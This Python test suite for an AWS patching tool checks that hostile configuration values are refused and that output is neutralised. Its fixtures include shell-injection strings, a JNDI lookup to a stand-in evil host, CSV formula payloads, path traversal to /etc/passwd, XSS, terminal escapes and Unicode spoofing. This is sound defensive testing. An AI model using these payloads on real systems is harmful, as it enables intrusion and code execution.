"""What somebody would write who means harm: each is refused by its own code, and nothing of it reaches the version in force.

What is no item's own is harmless where it is shown: what servers are called, and what they answer, is for their owners to say.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from aws_lambda_powertools.logging.formatter import LambdaPowertoolsFormatter
from boto3.dynamodb.types import Binary

from cli import console
from patchtide.core.alerts import Alert, Briefing, card, compose, invalid, machine
from patchtide.core.bounds import Bounds, beyond
from patchtide.core.document import OUR_PARAMETERS, read
from patchtide.core.outcome import Cause
from patchtide.core.report.tables import InstanceTable, Occasion
from patchtide.core.run import AlertKind
from simulator import sample
from simulator.clock import PacedClock
from simulator.documents import Parameter
from simulator.fleet import Organization
from simulator.memory import Memory
from simulator.template import ROOT, load
from simulator.world import World
from tests.core.mails import _about
from tests.core.test_malformed import (
    INFINITY,
    MALFORMED,
    MILLION,
    MINIMAL,
    NAN,
    Changes,
    each,
    exception,
    gate,
    inside,
    item,
    item_like,
    notify,
    wave,
    well_said,
)
from tests.report.pages import spec

NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
DIGEST = "5e" * 32
ROLE = "AWS-SystemsManager-AutomationExecutionRole"
SHARED = "arn:aws:ssm:eu-west-1:444455556666:document/Shared-Patch"
BOUNDS = Bounds(frozenset({"Acme-Patch", f"{SHARED}@{DIGEST}"}), ROLE, "reports")
SNAPSHOT = "5eeda5ca-0000-4000-8000-000000000000"
LIST = f"s3://reports/overrides/{DIGEST}.yaml"
PARAMETERS = "runbookParameters"
INSTANCE = "Patchtide-PatchInstance"

BRACES = ("{{ ssm:/prod/password }}", "{{automation:EXECUTION_ID}}", "${jndi:ldap://evil.example/a}", "a{b", "{% x %}")
TERMINAL = ("\x1b[2J\x1b[1;1H", "\x1b]0;owned\x07", "\x9b31m", "a\x08\x08b", "a\x7fb")
LINES = ("x\r\nBcc: all@example.com", "x\ry", "x\ny", "x\u2028y", "x\u2029y", "x\x85y", "x\x0by", "x\x00y")
UNSEEN = ("pr\u200bod", "\u202etxt.exe", "\u2066x\u2069", "pr\u00adod", "\ufeffprod", "prod\U000e0041", "pr\u2060od")
NO_TEXT = (*BRACES, *TERMINAL, *LINES, *UNSEEN)
SHELL = ("x;id", "x|id", "x&&id", "$(id)", "`id`", "x'--", 'x"y', "x\\y", "x>y", "x*", "x y")
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "-x-y", "--now")
LOOKALIKES = ("d\u0435v-weekly", "\uff44ev", "dev\u2010weekly", "dev-week\u217cy")

HOSTILE: list[tuple[Changes, str, str]] = [
    # Names become cells, keys of the bucket, words of a command line and subjects of mails.
    *each("campaign", "pattern", *FORMULAS, *SHELL, *LOOKALIKES, *BRACES[:2], *TERMINAL[:2], *LINES[:3], *UNSEEN[:2]),
    *each(
        "campaign", "pattern", "../runs", "dev/../../x", "dev%2e%2e", "dev..x", "<b>dev</b>", "javascript:x", "$where"
    ),
    *inside(
        wave, "name", "waves[0].name", "pattern", *FORMULAS, "can;ary", "{{x}}", "canary\u202e", "\u0441anary", "a/b"
    ),
    # Where.
    *each("accounts", "account", "arn:aws:iam::*:root", "1111222233*", "111122223333,999999999999", at="accounts[0]"),
    *each(
        "accounts", "account", "\uff11" * 12, "111122223333\u200b", "{{global:ACCOUNT_ID}}", "ou-*", at="accounts[0]"
    ),
    *each("accounts", "account", "r-*", "ou-ab12-*", "OU-AB12-PRODPROD", "$(id)", "111122223333;id", at="accounts[0]"),
    *each("excludeAccounts", "account", "111122223333' OR '1'='1", "ou-ab12-", "\x00", at="excludeAccounts[0]"),
    *each("regions", "region", "*", "eu-west-*", "eu-west-1;id", "{{global:REGION}}", "eu-west-1\n", at="regions[0]"),
    *each("regions", "region", "\u0435u-west-1", "eu-west-1.evil.example", "169.254.169.254", "../", at="regions[0]"),
    *inside(wave, "accounts", "waves[0].accounts", "wider", "999999999999", "000000000000"),
    # Whom.
    *each("targets", "characters", *(f"tag:PatchGroup={text}x" for text in NO_TEXT), at="targets[0]"),
    *each(
        "targets", "target", "InstanceIds=*", "InstanceIds=i-0123456789abcdef0;id", "*=*", "tag-key=x", at="targets[0]"
    ),
    *each("targets", "target", "AWS::EC2::Instance=*", "ParameterValues=i-0123456789abcdef0", at="targets[0]"),
    *each("targets", "target", "ResourceGroup=$(id)", "ResourceGroup=*", "ResourceGroup=../x", at="targets[0]"),
    *each("targets", "target", f"ResourceGroup={SHARED}", "ResourceGroup=<b>", "InstanceIds=../x", at="targets[0]"),
    *inside(
        exception, "targets", "exceptions[0].targets[0]", "characters", "tag:A={{x}}", "tag:A=\x1b[0m", "tag:A=\u202e"
    ),
    # When.
    *each(
        "schedule",
        "schedule",
        "cron(0 22 ? * SAT *)\x1b[0m",
        "cron({{x}})",
        "rate(1 day) && id",
        "cron(\uff10 22 ? * SAT *)",
    ),
    *each("schedule", "schedule", "cron(0 22 ? * SAT *)\n* * * * *", "at(2027-01-01T00:00:00)' --", "at({{x}})"),
    *each(
        "scheduleTimezone",
        "timezone",
        "Europe/London\n",
        "/etc/localtime",
        "Europe/../UTC",
        "{{x}}",
        "\u0415urope/London",
    ),
    *each(
        "startDate", "date", "2027-01-01\n", "2027-01-01' --", "{{global:DATE}}", "\uff12\uff10\uff12\uff17-01-01", NAN
    ),
    *inside(exception, "expires", "exceptions[0].expires", "date", "2027-03-31;", "{{global:DATE}}", INFINITY),
    *each(
        "calendars",
        "calendar",
        "arn:aws:ssm:*:*:document/X-1",
        "arn:aws:ssm:eu-west-1:*:document/X-1",
        at="calendars[0]",
    ),
    *each(
        "calendars",
        "calendar",
        "{{x}}",
        "../X-1",
        "X-1;id",
        "X-1\n",
        "arn:aws:iam::111122223333:role/X",
        at="calendars[0]",
    ),
    *each("freeze", "freeze", "../../runs/x.ics", "runs/../x.ics", "..\\x.ics", "//evil/x.ics", at="freeze[0]"),
    *each("freeze", "freeze", "http://evil.example/x.ics", "s3://evil/x.ics", "/etc/passwd.ics", at="freeze[0]"),
    *each("freeze", "characters", "x\x00.ics", "{{x}}.ics", "x\u202e.ics", "x\r\ny.ics", "\x1b[2J.ics", at="freeze[0]"),
    # How fast.
    *each("maxConcurrency", "rate", "10%;id", "{{x}}", "10%\n", "\uff11\uff10%", "=1+1", "$(id)", NAN),
    *each("maxErrors", "rate", "5%|x", "{{x}}", "\x000", INFINITY, {"5%"}),
    *each("locationMaxConcurrency", "rate", "{{x}}", "1;id", NAN),
    *each("locationMaxErrors", "rate", "{{x}}", "0\n", INFINITY),
    *each("maxInstances", "number", "{{x}}", "1e9", "1\n", NAN, INFINITY, b"1"),
    *inside(gate, "maxErrors", "waves[0].gate.maxErrors", "rate", "{{x}}", "0\x00", NAN),
    *inside(gate, "minCompliance", "waves[0].gate.minCompliance", "percent", "0%;", "-0", INFINITY, "{{x}}"),
    *inside(gate, "alarms", "waves[0].gate.alarms[0]", "characters", "{{x}}", "a\x1b[0m", "a\r\nb", "a\u202eb"),
    # What is installed.
    *each(
        "installOverrideList", "pattern", "http://evil.example/x", "file:///etc/passwd", "ssm-document:evil", "//evil/x"
    ),
    *each(
        "installOverrideList",
        "pattern",
        "s3://b/k'",
        's3://b/"',
        "s3://b/`id`",
        "s3://b/$x",
        "s3://b/\\x",
        "s3://b/a b",
    ),
    *each(
        "installOverrideList",
        "pattern",
        "data:text/yaml,x",
        "javascript:x",
        "S3://b/k",
        f"{LIST}\n",
        "s3://b/\uff4b",
        "-",
    ),
    *each(
        "installOverrideList", "not-allowed", "https://evil.example/x", "s3://evil/x", "s3://reports/runs/x/report.html"
    ),
    *each(
        "installOverrideList", "not-allowed", LIST.replace("reports", "reports2"), f"{LIST}?versionId=1", f"{LIST}#x"
    ),
    *each("installOverrideList", "not-allowed", LIST.replace("/overrides/", "/overrides/../overrides/"), f"{LIST}/"),
    *each("installOverrideList", "not-allowed", LIST.replace("s3://reports", "https://reports.s3.amazonaws.com")),
    *each(
        "installOverrideList",
        "not-allowed",
        LIST.replace("reports/", "reports@evil.example/"),
        LIST.replace("5e", "5E"),
    ),
    *each("installOverrideList", "text", b"s3://reports/x", {LIST}, {"url": LIST}, Decimal(1)),
    *each("snapshotId", "pattern", "{{x}}", f"{SNAPSHOT}\n", f"{SNAPSHOT}'", f"{SNAPSHOT}$(id)", f" {SNAPSHOT}"),
    *each("operation", "choice", "Install\n", "{{Operation}}", "Inst\u0430ll", "Scan;Install", b"Install"),
    *each("rebootOption", "choice", "NoReboot\x00", "{{x}}", "RebootIfNeeded;id"),
    # By what.
    *each(
        "runbook",
        "pattern",
        *SHELL,
        "{{x}}",
        "Patchtide-PatchFleet\u200b",
        "P\u0430tchtide-PatchFleet",
        "x-1\n",
        MILLION,
    ),
    *each(
        "runbook", "pattern", "file:///x", "https://evil.example/x", "../X-1", "arn:aws:s3:::x", f"{SHARED}@{DIGEST}"
    ),
    *each("runbook", "pattern", "arn:aws:ssm:*:*:document/X-1", "arn:aws:ssm:eu-west-1:*:document/X-1", f"{SHARED}:1"),
    *each(
        "runbook", "pattern", "arn:aws:iam::111122223333:role/X", SHARED.replace("document", "automation-definition")
    ),
    *each(
        "runbook", "not-allowed", "AWS-RunShellScript", "AWS-CreateImage", "patchtide-patchfleet", "Acme-Patch2", DIGEST
    ),
    *each("runbook", "not-allowed", SHARED.replace("4444", "9999"), SHARED.replace("eu-", "us-"), SHARED + "2"),
    *each(
        "runbook", "not-allowed", SHARED.replace("Shared-Patch", "Acme-Patch"), SHARED.replace("Shared-", "Patchtide-")
    ),
    *each("runbook", "text", b"Acme-Patch", {"Acme-Patch"}, ["Acme-Patch"]),
    *each("runbookVersion", "pattern", "{{x}}", "$EVIL", "$LATEST;id", "1\n", "\uff11", "1e3"),
    *each(
        "executionRoleName", "pattern", "role\n", "{{x}}", "role;id", "role name", "arn:aws:iam::*:role/x", "r\u043ele"
    ),
    *each("executionRoleName", "not-allowed", f"team/{ROLE}", f"../{ROLE}", "Admin", "OrganizationAccountAccessRole"),
    *each("executionRoleName", "not-allowed", ROLE.lower(), f"{ROLE}2", f"x@{ROLE}", f"/{ROLE}"),
    *each("executionRoleName", "text", {ROLE}, b"Admin", [ROLE]),
    # By whose parameters: what the service sets, in any spelling, and what is not theirs to say.
    *[({PARAMETERS: {name: "x"}}, f"{PARAMETERS}.{name}", "reserved") for name in OUR_PARAMETERS],
    *[({PARAMETERS: {name.lower(): "x"}}, f"{PARAMETERS}.{name.lower()}", "reserved") for name in OUR_PARAMETERS],
    *[
        ({PARAMETERS: {name: "x"}}, f"{PARAMETERS}.{name}", "reserved")
        for name in (
            "Not_After",
            "baseline_override",
            "BASELINEOVERRIDE",
            "Automation_Assume_Role",
            "snapshot_Id",
            "RUNID",
        )
    ],
    *[
        ({"runbook": INSTANCE, PARAMETERS: {name: "i-0123456789abcdef0"}}, f"{PARAMETERS}.{name}", "reserved")
        for name in ("InstanceId", "instanceid", "Instance_Id")
    ],
    *[
        ({PARAMETERS: {name: "x"}}, f"{PARAMETERS}.{name if name.isprintable() else repr(name)}", "pattern")
        for name in (
            "__proto__",
            "constructor.prototype",
            "a;b",
            "$x",
            "{{x}}",
            "a\nb",
            "\u00efd",
            "-x",
            "=x",
            "a" * 51,
        )
    ],
    *[({PARAMETERS: {"Note": text}}, f"{PARAMETERS}.Note[0]", "characters") for text in NO_TEXT],
    *[
        ({PARAMETERS: {"Note": ["x", text]}}, f"{PARAMETERS}.Note[1]", "text")
        for text in (Decimal(1), b"x", NAN, Binary(b"x"))
    ],
    *[
        ({"runbook": "Acme-Patch", "targetParameterName": name}, "targetParameterName", "reserved")
        for name in (*OUR_PARAMETERS, "notafter", "AUTOMATIONASSUMEROLE", "baselineOverride")
    ],
    *[
        ({"runbook": INSTANCE, "targetParameterName": name}, "targetParameterName", "target-parameter")
        for name in ("PreScript", "HealthScript", "TargetGroupArn", "instanceId", "Whatever")
    ],
    ({"targetParameterName": "InstanceId"}, "targetParameterName", "target-parameter"),
    *each("targetParameterName", "pattern", "Instance;Id", "{{x}}", "a\nb", "__proto__", "Inst\u0430nceId", "-x", "=x"),
    # Words for people, who read them in mails, chats, pages, spreadsheets and terminals.
    *each("description", "characters", *NO_TEXT),
    *each("owner", "characters", *NO_TEXT),
    *each("ticket", "characters", *NO_TEXT),
    *inside(exception, "reason", "exceptions[0].reason", "characters", *(f"x{text}x" for text in NO_TEXT)),
    *inside(exception, "approvedBy", "exceptions[0].approvedBy", "characters", *(f"x{text}x" for text in NO_TEXT)),
    *inside(exception, "ticket", "exceptions[0].ticket", "characters", *BRACES, *TERMINAL),
    *inside(
        notify,
        "runbook",
        "notify.runbook",
        "pattern",
        "javascript:alert(1)//https://",
        "data:text/html,x",
        "//evil.example",
    ),
    *inside(
        notify, "runbook", "notify.runbook", "pattern", "https://x/<script>", "https://x/'onclick=", "https://x/\x1b[0m"
    ),
    *inside(
        notify,
        "runbook",
        "notify.runbook",
        "pattern",
        "https://x/|https://y",
        "https://x/`id`",
        "https://\u0435vil.example",
    ),
    # Fields that there are not, that only look like ours, or that are there twice.
    *[
        ({name: "x"}, name if name.isprintable() else repr(name), "unknown")
        for name in ("__proto__", "constructor", "$where")
    ],
    *[
        ({name: "x"}, name, "unknown")
        for name in ("acc\u043eunts", "run\uff42ook", "toString", "prototype", "updatedBy2")
    ],
    *[({name: "x"}, repr(name), "unknown") for name in ("accounts\u200b", "runbook\x00", "\u202eoperation")],
    ({"runbook": "Acme-Patch", "Runbook": "AWS-RunShellScript"}, "Runbook", "twice"),
    ({"runbook": "Acme-Patch", "run_book": "AWS-RunShellScript"}, "run_book", "twice"),
    ({"executionRoleName": ROLE, "execution_role_name": "Admin"}, "execution_role_name", "twice"),
    ({"installOverrideList": LIST, "InstallOverrideList": "https://evil.example/x"}, "InstallOverrideList", "twice"),
    ({PARAMETERS: {"A": "b"}, "runbook-parameters": {"NotAfter": "x"}}, "runbook-parameters", "twice"),
]


def refused(changes: Changes) -> list[tuple[str, str]]:
    """Where and by which code the item is refused, where it is read in the stack."""
    reading = read(item(changes), now=NOW)
    problems = reading.problems or beyond(reading.valid(), BOUNDS)
    for problem in problems:
        well_said(problem)
    return [(problem.path, problem.code) for problem in problems]


def test_there_are_very_many_and_of_every_kind() -> None:
    assert len(HOSTILE) >= 200
    assert not [
        case for case in HOSTILE if case in MALFORMED and case[2] not in ("pattern", "reserved", "characters", "wider")
    ]
    kinds = Counter(code for _, _, code in HOSTILE)
    assert {"not-allowed", "reserved", "target-parameter", "characters", "pattern", "twice", "unknown"} <= set(kinds)


@pytest.mark.parametrize(("changes", "path", "code"), HOSTILE, ids=[f"{path[:40]}-{code}" for _, path, code in HOSTILE])
def test_a_hostile_item_is_refused_by_its_own_code(changes: Changes, path: str, code: str) -> None:
    assert refused(changes) == [(path, code)]


def test_nothing_of_it_reaches_the_version_in_force() -> None:
    memory = Memory(World(PacedClock(NOW, 1), Organization(sample.HUB, ["eu-west-1"], 1), 1), bounds=BOUNDS)
    memory.put(MINIMAL)
    memory.take("dev-weekly")
    registry = memory.intake().registry
    good, looked_at = registry.get("dev-weekly"), 0
    assert good
    for changes, path, code in HOSTILE:
        written = item(changes)
        if not item_like(written):
            continue
        memory.put(written)
        name = written["campaign"]
        memory.take(name)
        found = memory.item(name)
        assert found["status"] == "INVALID", changes
        assert (path, code) in [(error["path"], error["code"]) for error in found["statusDetail"]["errors"]]
        assert registry.get(name) == (good if name == "dev-weekly" else None)
        assert memory.mails[-1].subject.isprintable()
        assert memory.mails[-1].text.replace("\n", "").isprintable()
        looked_at += 1
    assert looked_at >= 200
    assert registry.spec("dev-weekly", good.version) == read(MINIMAL, now=NOW).valid()
    assert {version["sk"] for version in memory.rows("campaign#dev-weekly", "version#")} == {"version#000001"}


# --- what an item may say is harmless where it is shown --------------------------------------------------------------------

MARKUP = (
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<!channel>",
    "<https://evil.example|click>",
    "&lt;",
    *FORMULAS[:3],
)
NAMES = (*MARKUP, *TERMINAL, *LINES, *UNSEEN, "x\n$ patchtide pause-all", "x\r\nACTION: none.")


@pytest.mark.parametrize("text", MARKUP)
def test_what_is_text_to_people_is_taken_as_it_is(text: str) -> None:
    assert read(item({"description": text}), now=NOW).valid().description == text


def mail(name: str, kind: AlertKind = "failed") -> Alert:
    """A mail about a server that calls itself that, and that answers so, too."""
    run, wave_name, about = _about(kind)
    row = {"account": "111122223333", "region": "eu-west-1", "instance": "i-1", "name": name, "sentence": name}
    denied = {**row, "cause": "ROLE_DENIED"}
    run = replace(run, waves=tuple(replace(one, reason=name, hold=name) for one in run.waves))
    return compose(kind, wave_name, about, Briefing(run, "UTC", dict.fromkeys(Cause, (row,)), (denied,)))


KINDS: tuple[AlertKind, ...] = ("failed", "started", "late", "halted", "missed", "stopped")


@pytest.mark.parametrize("name", NAMES)
def test_a_mail_says_on_its_own_lines_what_a_server_calls_itself(name: str) -> None:
    for kind in KINDS:
        alert, plain = mail(name, kind), mail("web-1", kind)
        assert alert.subject.isprintable()
        assert alert.subject.isascii()
        assert alert.body.replace("\n", "").isprintable()
        lines, meant = alert.body.splitlines(), plain.body.splitlines()
        assert (lines[1], lines[4]) == (meant[1], meant[4])  # what to do and the command are ours
        assert not [line for line in lines if line.startswith("$ patchtide")]
        assert json.loads(json.dumps(machine(alert)))["text"] == alert.body


@pytest.mark.parametrize("name", NAMES)
def test_a_chat_shows_no_link_and_calls_nobody(name: str) -> None:
    for kind in KINDS:
        content = card(mail(name, kind))["content"]
        shown = [content["title"], content["description"], *content["nextSteps"]]
        assert not [text for text in shown if re.search("[<>]", text)]


def test_a_mail_about_an_item_that_calls_itself_anything_can_be_sent() -> None:
    for name in NAMES:
        problems = read({**MINIMAL, "campaign": name}, now=NOW).problems
        alert = invalid(name, problems, 0, None, "0123456789abcdef")
        assert all(
            text.isprintable() for text in (alert.id, alert.campaign, alert.subject, alert.body.replace("\n", ""))
        )


@pytest.mark.parametrize("name", NAMES)
def test_no_cell_of_a_report_is_a_formula_and_every_row_is_one(name: str) -> None:
    run, _, _ = _about("failed")
    row = {
        "kind": "instance",
        "wave": run.waves[0].name,
        "account": "1",
        "region": "r",
        "instance": "i-1",
        "name": name,
    }
    table, lines = io.StringIO(newline=""), io.StringIO()
    InstanceTable(table, lines, Occasion(run, spec(), NOW)).write({**row, "outcome": "failed", "sentence": name})
    head, cells = csv.reader(io.StringIO(table.getvalue(), newline=""))
    assert len(head) == len(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert json.loads(lines.getvalue())["instancename"] == name
    assert lines.getvalue().count("\n") == 1


@pytest.mark.parametrize("name", NAMES)
def test_a_terminal_is_told_nothing_but_text(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    console.write_table(("name",), [[name]])
    console.write_fields({"description": name})
    console.write_lines([name])
    console.say(name)
    out, err = capsys.readouterr()
    said = out + err
    assert not set(re.findall(r"[^\n -~]", said)) - {one for one in name if one.isprintable()}
    table = out.splitlines()
    assert table[0].split() == ["name"]
    assert table[2].startswith("description")  # neither the cell nor the field has begun a line of its own


def test_a_table_for_programs_has_no_formula_in_its_head() -> None:
    text = console._csv([{"=cmd|x": "@x", "name": "-1"}])
    assert list(csv.reader(io.StringIO(text))) == [["'=cmd|x", "name"], ["'@x", "'-1"]]


@pytest.mark.parametrize("name", NAMES)
def test_a_line_of_the_log_is_one_line(name: str) -> None:
    record = logging.LogRecord("x", logging.WARNING, "x", 1, "could not read %s", (name,), None)
    line = LambdaPowertoolsFormatter().format(record)
    assert not re.search(r"[\x00-\x1f]", line)
    assert name in json.loads(line)["message"]


# --- what reaches a shell --------------------------------------------------------------------------------------------------


def runbooks() -> Iterator[Mapping[str, Any]]:
    """The parameters of each of our runbooks."""
    for body in load(ROOT / "template.yaml")["Resources"].values():
        if body["Type"] == "AWS::SSM::Document":
            yield body["Properties"]["Content"]["parameters"]


SCRIPTS = {"PreScript", "HealthScript", "PostScript"}  # what these are for; a spoke has to allow them


@pytest.mark.parametrize("value", SHELL)
def test_no_parameter_of_our_runbooks_takes_what_a_shell_would_obey_but_those_that_are_scripts(value: str) -> None:
    looked_at = 0
    for parameters in runbooks():
        for parameter, declared in parameters.items():
            if declared["type"] != "String" or parameter in SCRIPTS:
                continue
            if parameter == "AutomationAssumeRole":
                continue  # read by AWS alone, as an ARN
            values, pattern = tuple(declared.get("allowedValues", ())), declared.get("allowedPattern", "")
            with pytest.raises(ValueError, match=parameter):
                Parameter(parameter, "String", allowed_values=values, allowed_pattern=pattern).value([value])
            looked_at += 1
    assert looked_at > 20
